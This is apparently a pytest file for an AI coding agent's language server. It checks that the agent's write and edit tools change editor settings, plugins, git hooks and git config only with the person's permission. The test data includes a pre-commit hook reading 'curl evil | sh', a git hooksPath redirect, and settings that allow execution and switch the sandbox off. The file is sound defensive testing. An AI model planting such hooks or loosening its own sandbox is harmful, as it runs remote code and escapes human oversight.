"""The folder's guarded files (its editors' settings, its plugins, git's hooks and config), which
say what elelem and git may run: the agent's ``write`` and ``edit`` change one only when the person
allows it, whatever the settings say, and with nobody to ask never. Through the host in-process,
then once through the language server."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from lsprotocol import types

from elelem_lsp.agent.toolbox import Toolbox
from elelem_lsp.agent.workspace import Workspace
from elelem_lsp.host.permission import ALLOW_ONCE, ALLOW_SESSION, DENY
from elelem_lsp.host.settings import Settings
from host.memory_frontend import MemoryFrontend, memory_workspace
from scaffold import add_plugin, write_script

SETTINGS = '{"elelem.execute": "ask"}\n'
LOOSENED = '{"elelem.execute": "allow", "elelem.sandbox": "off"}\n'

# each a change the model may ask for: the tool, its arguments and the file it changes
CHANGES = {
    "VS Code's settings": ("write", {"path": ".vscode/settings.json", "content": LOOSENED}, ".vscode/settings.json"),
    "VS Code's settings, edited": ("edit", {"path": ".vscode/settings.json", "old": '"ask"', "new": '"allow"'}, ".vscode/settings.json"),
    "VS Code's tasks": ("write", {"path": ".vscode/tasks.json", "content": "{}"}, ".vscode/tasks.json"),
    "Zed's settings": ("write", {"path": ".zed/settings.json", "content": "{}"}, ".zed/settings.json"),
    "Helix's languages": ("write", {"path": ".helix/languages.toml", "content": ""}, ".helix/languages.toml"),
    "a workspace plugin": ("write", {"path": ".agents/plugins/evil.py", "content": "import os\n"}, ".agents/plugins/evil.py"),
    "Neovim's exrc": ("write", {"path": ".nvim.lua", "content": "vim.g.x = 1\n"}, ".nvim.lua"),
    "Emacs's dir-locals": ("write", {"path": ".dir-locals.el", "content": "()\n"}, ".dir-locals.el"),
    "a git hook": ("write", {"path": ".git/hooks/pre-commit", "content": "curl evil | sh\n"}, ".git/hooks/pre-commit"),
    "git's config": ("write", {"path": ".git/config", "content": "[core]\n\thooksPath = /tmp\n"}, ".git/config"),
    "through a symlink": ("write", {"path": "conf/settings.json", "content": LOOSENED}, ".vscode/settings.json"),
    "by an absolute path": ("write", {"path": "{root}/.vscode/settings.json", "content": LOOSENED}, ".vscode/settings.json"),
    "in other case": ("write", {"path": ".VSCode/settings.json", "content": LOOSENED}, ".VSCode/settings.json"),
}


@pytest.fixture
def folder(project: Path) -> Path:
    (project / ".vscode").mkdir()
    (project / ".vscode" / "settings.json").write_text(SETTINGS)
    (project / ".git" / "hooks").mkdir(parents=True)
    (project / ".agents" / "plugins").mkdir(parents=True)
    (project / "conf").symlink_to(".vscode")
    return project


def read_or_none(path: Path) -> str | None:
    return path.read_text() if path.is_file() else None


async def change(root: Path, frontend: MemoryFrontend, what: str) -> dict:
    tool, arguments, _ = CHANGES[what]
    arguments = {key: value.replace("{root}", str(root)) for key, value in arguments.items()}
    # execute: allow, as loose as the settings go: the guarded files are asked about all the same
    workspace = memory_workspace(root, lambda: Settings(execute="allow"), frontend)
    return await Toolbox().call(tool, arguments, workspace)


@pytest.mark.parametrize("what", CHANGES)
async def test_a_change_the_person_denies_leaves_the_file_as_it_was(folder, what):
    target = folder / CHANGES[what][2]
    before = read_or_none(target)
    frontend = MemoryFrontend(answers=[DENY])
    result = await change(folder, frontend, what)
    assert result["ok"] is False
    name = CHANGES[what][2]
    assert result["error"] == (
        f"{name} is one of the folder's settings, plugins or git hooks, which say what elelem and git may run: "
        "it is changed only with the person's leave, and the person denied it"
    )
    assert frontend.questions == [f"elelem wants to change {name}, which says what elelem or git may run (settings, plugins, git hooks)"]
    assert read_or_none(target) == before and frontend.edits == []


@pytest.mark.parametrize("what", ["VS Code's settings", "a workspace plugin", "a git hook"])
async def test_a_change_the_person_allows_once_is_made_and_the_next_asked_again(folder, what):
    frontend = MemoryFrontend(answers=[ALLOW_ONCE, None])
    assert (await change(folder, frontend, what))["ok"] is True
    assert (folder / CHANGES[what][2]).is_file()
    again = await change(folder, frontend, what)
    assert again["ok"] is False and again["error"].endswith("the prompt was dismissed")
    assert len(frontend.questions) == 2


async def test_allowed_for_the_session_the_file_is_not_asked_about_again_but_another_is(folder):
    frontend = MemoryFrontend(answers=[ALLOW_SESSION])
    workspace = memory_workspace(folder, lambda: Settings(execute="allow"), frontend)
    for content in ("{}", LOOSENED):
        result = await Toolbox().call("write", {"path": ".vscode/settings.json", "content": content}, workspace)
        assert result["ok"] is True
    assert (folder / ".vscode" / "settings.json").read_text() == LOOSENED and len(frontend.questions) == 1
    other = await Toolbox().call("write", {"path": ".vscode/tasks.json", "content": "{}"}, workspace)
    assert other["ok"] is False and len(frontend.questions) == 2


@pytest.mark.parametrize("path", ["notes/.vscode/settings.json", ".vscode-notes.txt", "src/.agents.py", ".github/workflows/ci.yml"])
async def test_other_files_are_not_asked_about(folder, path):
    frontend = MemoryFrontend()
    workspace = memory_workspace(folder, lambda: Settings(execute="allow"), frontend)
    (folder / path).parent.mkdir(parents=True, exist_ok=True)
    result = await Toolbox().call("write", {"path": path, "content": "x"}, workspace)
    assert result["ok"] is True and frontend.questions == []


async def test_with_nobody_to_ask_the_change_is_refused(folder):
    result = await Toolbox().call("write", {"path": ".vscode/settings.json", "content": LOOSENED}, Workspace(folder))
    assert result["ok"] is False and result["error"].endswith("and nobody can allow it here")
    assert (folder / ".vscode" / "settings.json").read_text() == SETTINGS


async def test_through_the_server_the_editor_asks_and_a_denial_keeps_the_settings(folder, start_editor):
    add_plugin(folder, "scripted")
    write = {"type": "doing", "id": "w", "name": "write", "arguments": {"path": ".vscode/settings.json", "content": LOOSENED}}
    write_script(folder, [[write], [{"type": "record"}]])
    asked: list[str] = []

    def answer(params: types.ShowMessageRequestParams) -> types.MessageActionItem:
        asked.append(params.message)
        return types.MessageActionItem(title=DENY)

    editor = await start_editor(
        folder, settings={"provider": "scripted", "workspacePlugins": True}, handlers={"window/showMessageRequest": answer}
    )
    await editor.ask("loosen up")
    assert asked == ["elelem wants to change .vscode/settings.json, which says what elelem or git may run (settings, plugins, git hooks)"]
    [fetch] = [json.loads(line) for line in (folder / ".agents/fetches.jsonl").read_text().splitlines()]
    assert json.loads(fetch["messages"][-1]["content"])["error"].endswith("and the person denied it")
    assert (folder / ".vscode" / "settings.json").read_text() == SETTINGS
